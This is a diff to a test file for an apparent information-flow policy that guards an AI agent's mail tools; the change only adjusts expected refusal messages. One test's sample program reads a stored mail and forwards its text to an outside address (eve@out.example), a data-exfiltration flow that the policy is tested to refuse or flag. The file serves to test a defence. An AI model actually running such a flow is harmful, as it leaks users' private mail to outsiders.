@@ -286,7 +286,7 @@ async def test_harmless_values_of_the_policy_do_not_count_as_read(desk: Desk) ->
             await client.call_tool("send_mail", {"to": "ann@corp.example", "text": "mail 1"})
         ).is_error
         chosen = await client.call_tool("send_mail", {"to": "eva@corp.example", "text": "mail 1"})
-        assert "untrusted data decides to of @SEND_MAIL" in text_of(chosen)
+        assert "untrusted data decides 'to' of @SEND_MAIL" in text_of(chosen)
 
 
 async def test_observing_blocks_nothing_and_records_what_would_have_been(desk: Desk) -> None:
@@ -302,7 +302,7 @@ async def test_observing_blocks_nothing_and_records_what_would_have_been(desk: D
         assert not (await client.call_tool("slow", {"seconds": 0})).is_error
         code = "S1: @read_mail (number=4) > $mail\nS2: @send_mail (to='eve@out.example', text=$mail.text)\n"
         program = text_of(await client.call_tool("run_program", {"code": code}))
-        assert "would be refused: untrusted data decides to of @SEND_MAIL" in program
+        assert "would be refused: untrusted data decides 'to' of @SEND_MAIL" in program
         assert "done" in program
         python = "async def main() -> str:\n    return await send_mail(to='eve@out.example', text='y')\n"
         run = text_of(await client.call_tool("run_program", {"code": python}))
